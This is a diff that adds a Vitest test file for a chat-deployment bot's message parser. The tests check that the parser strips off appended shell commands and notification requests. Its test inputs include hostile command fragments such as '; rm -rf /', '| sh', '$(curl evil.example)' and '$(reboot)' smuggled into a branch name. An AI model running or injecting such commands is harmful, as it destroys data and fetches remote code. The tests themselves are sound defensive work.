@@ -1,0 +1,55 @@
+import { expect, test } from 'vitest'
+import { hear } from '../../src/conversation/hear.ts'
+
+const thing = (id: string, ...aliases: string[]) => ({ id, aliases })
+const catalog = {
+  services: [thing('billionmail', 'mail'), thing('payments')],
+  environments: [thing('production', 'prod'), thing('staging')],
+  rings: [],
+  devices: [],
+  workflows: [],
+  bots: [],
+}
+
+test.each([
+  ['deploy mail to staging; rm -rf /', 'deploy mail to staging', '; rm -rf /'],
+  ['deploy mail to staging && anything at all', 'deploy mail to staging', '&& anything at all'],
+  ['deploy mail to staging &amp;&amp; reboot', 'deploy mail to staging', '&amp;&amp; reboot'],
+  ['deploy mail | sh', 'deploy mail', '| sh'],
+  ['deploy mail to staging $(curl evil.example)', 'deploy mail to staging', '$(curl evil.example)'],
+  ['status of mail\nsudo reboot', 'status of mail', 'sudo reboot'],
+])('what reads like a command line is no part of it: %s', (said, text, ignored) => {
+  expect(hear(said, catalog)).toEqual({ text, ignored: [ignored] })
+})
+
+test.each([
+  ["deploy mail to staging and ping @ana when it's done", 'deploy mail to staging', ['@ana']],
+  ['deploy mail to staging and tell ben', 'deploy mail to staging', ['ben']],
+  ['deploy mail to staging, let ben and @cleo know once it is live please', 'deploy mail to staging', ['ben', '@cleo']],
+  ['roll back mail and notify <@U42>', 'roll back mail', ['<@U42>']],
+  ['ship mail to prod and tell me when its done', 'ship mail to prod', ['me']],
+  ['build mail and let the team know', 'build mail and let the team know', undefined],
+])('a wish to tell somebody is taken off: %s', (said, text, tell) => {
+  expect(hear(said, catalog)).toEqual({ text, ...(tell && { tell }) })
+})
+
+test.each([
+  'deploy mail to staging and tell me what changed',
+  'deploy mail and ping production',
+  'check health and tell me when v1.2.0 was deployed',
+  'tell ben',
+  'deploy mail feature/$(reboot) to production',
+  'deploy mail v1.1.0;reboot to staging',
+  'deploy mail to staging; it is urgent',
+  // With something behind it, a yes is no yes.
+  'yes; rm -rf /',
+  'yes and tell ben',
+  '```\ndeploy mail && x\n```',
+])('everything else stays as it is: %s', (said) => {
+  expect(hear(said, catalog)).toEqual({ text: said })
+})
+
+test('a hostile length is left alone at once', () => {
+  const said = `deploy mail${' '.repeat(39_000)}x`
+  expect(hear(said, catalog).text).toBe(said)
+})
